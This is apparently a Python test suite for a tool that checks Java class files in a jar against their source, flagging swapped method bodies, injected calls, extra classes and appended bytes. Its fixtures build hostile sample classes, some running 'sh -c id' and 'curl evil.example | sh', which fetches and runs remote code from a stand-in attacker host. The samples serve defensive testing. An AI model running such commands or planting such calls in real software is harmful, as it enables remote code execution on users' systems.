#!/usr/bin/env python3
"""Class files beside their source: what was compiled from it is explained, what does more than it says is named.

The class files are those that javac 17 makes of fuzz/seeds/java_source/Shop.java.

usage: java.py PLUMB [PART-OF-A-NAME]
"""
import pathlib
import zipfile

from classfile import ClassFile, runner
from plumb_test import case, main

SEEDS = pathlib.Path(__file__).resolve().parents[2] / "fuzz/seeds"
SOURCE = (SEEDS / "java_source/Shop.java").read_text()


def classes():
    return {f"org/example/{f.name}": f.read_bytes() for f in sorted((SEEDS / "javaclass").glob("Shop*.class"))}


def shop(t, change=None, more=(), source=SOURCE, name="Shop.class"):
    """A jar of the classes, one of them changed, and others beside them."""
    members = classes()
    if change:
        key = f"org/example/{name}"
        members[key] = change(ClassFile(members[key]))
    members.update(more)
    jar = t.path("pkg/usr/share/java/shop.jar")
    jar.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(jar, "w") as z:
        for path, data in members.items():
            z.writestr(zipfile.ZipInfo(path), data)
    t.write("src/org/example/Shop.java", source.encode())
    return t.check(t.path("pkg"), "--source", t.path("src"))


def only(report, tag):
    found = report.findings(tag=tag, severity="error")
    assert len(found) == 1, report.findings()
    assert report.code == 1
    return found[0]


@case
def classes_of_their_own_source_are_explained(t):
    report = shop(t)
    assert report.code == 0, report.findings()
    for f in report.json["files"]:
        if f["kind"] == "class":
            assert f["bytes"]["unaccounted"] == 0 and f["bytes"]["opaque"] == 0, f
            assert f["bytes"]["derived"] > f["size"] // 3, f


@case
def a_swapped_method_body_is_found(t):
    report = shop(t, lambda c: c.swapped("sorted", "letter"))
    found = report.findings(tag="bytecode.foreign", severity="error")
    assert {"Shop.sorted", "Shop.letter"} == {f["message"].split(" ")[0] for f in found}, report.findings()
    assert report.code == 1


@case
def an_added_call_is_named(t):
    finding = only(shop(t, lambda c: c.with_command("open", "sh -c id")), "bytecode.foreign")
    assert finding["evidence"]["not in the source"] == "getRuntime, sh -c id, exec", finding
    assert "Shop.open" in finding["message"]


@case
def one_more_class_in_the_jar_is_found(t):
    evil = runner("org/example/Helper", "Shop.java", "curl evil.example | sh")
    finding = only(shop(t, more={"org/example/Helper.class": evil}), "bytecode.no-source")
    assert "org/example/Helper" in finding["message"] and finding["path"].endswith("Helper.class"), finding


@case
def a_class_in_the_name_of_another_does_not_pass(t):
    evil = runner("org/example/Shop", "Shop.java", "curl evil.example | sh")
    finding = only(shop(t, lambda c: evil), "bytecode.foreign")
    for word in ("getRuntime", "exec", "curl evil.example | sh"):
        assert word in finding["evidence"]["not in the source"], finding


@case
def a_changed_string_is_named(t):
    finding = only(shop(t, lambda c: c.replaced("monday", "mondey")), "bytecode.foreign")
    assert "mondey" in finding["evidence"]["not in the source"] and "Shop.open" in finding["message"], finding


@case
def a_changed_part_of_a_concatenation_is_named(t):
    finding = only(shop(t, lambda c: c.replaced("hello \x01", "hullo \x01")), "bytecode.foreign")
    assert "greeting" in finding["message"], finding


@case
def another_method_called_is_named(t):
    finding = only(shop(t, lambda c: c.replaced("toUpperCase", "toLowerCase")), "bytecode.foreign")
    assert "toLowerCase" in finding["evidence"]["not in the source"], finding


@case
def a_method_that_the_class_does_not_have_is_named(t):
    finding = only(shop(t, lambda c: c.replaced("sorted", "exfils")), "bytecode.no-source")
    assert "exfils" in finding["message"], finding


@case
def a_name_that_the_file_has_elsewhere_is_no_excuse(t):
    """The file calls toUpperCase, but not in this method."""
    source = SOURCE.replace("text.trim()", "text.strip()")
    finding = only(shop(t, lambda c: c.replaced("trim", "letter"), source=source), "bytecode.foreign")
    assert finding["evidence"]["not in the source"] == "letter" and "describe" in finding["message"], finding


@case
def an_unknown_attribute_is_shown(t):
    report = shop(t, lambda c: c.with_attribute("Payload", b"0123456789" * 10))
    found = report.findings(tag="bytecode.unknown-part", severity="warning")
    assert found and "Payload" in found[0]["message"] and found[0]["length"] == 106, report.findings()


@case
def bytes_behind_the_class_are_an_error(t):
    report = shop(t, lambda c: c.data + b"tail" * 100)
    assert report.findings(tag="bytecode.unknown-part", severity="error"), report.findings()


@case
def a_class_of_another_language_is_opaque_where_its_source_is_there(t):
    other = runner("org/example/Tool", "Tool.kt", "id")
    report = shop(t, more={"org/example/Tool.class": other})
    assert report.findings(tag="bytecode.no-source", severity="error"), report.findings()
    t.write("src/org/example/Tool.kt", b"class Tool")
    report = shop(t, more={"org/example/Tool.class": other})
    assert report.file("Tool.class")["bytes"]["opaque"] > 0 and report.code == 3, report.findings()


@case
def names_alone_are_not_enough(t):
    """Same classes and methods, other contents."""
    other = SOURCE.replace('"hello "', '"good day "').replace("day) {\n        switch", "day) {\n        day = null; switch")
    report = shop(t, source=other)
    assert report.findings(tag="bytecode.foreign", severity="error"), report.findings()


@case
def a_class_cut_short_anywhere_is_answered(t):
    whole = classes()["org/example/Shop.class"]
    more = {f"org/example/cut{n}/Shop.class": whole[:n] for n in range(1, len(whole), 97)}
    report = shop(t, more=more)
    assert report.code == 1
    for f in report.json["files"]:
        assert f["kind"] != "class" or "cut" not in f["path"] or f["bytes"]["unaccounted"] == f["size"], f


if __name__ == "__main__":
    main()
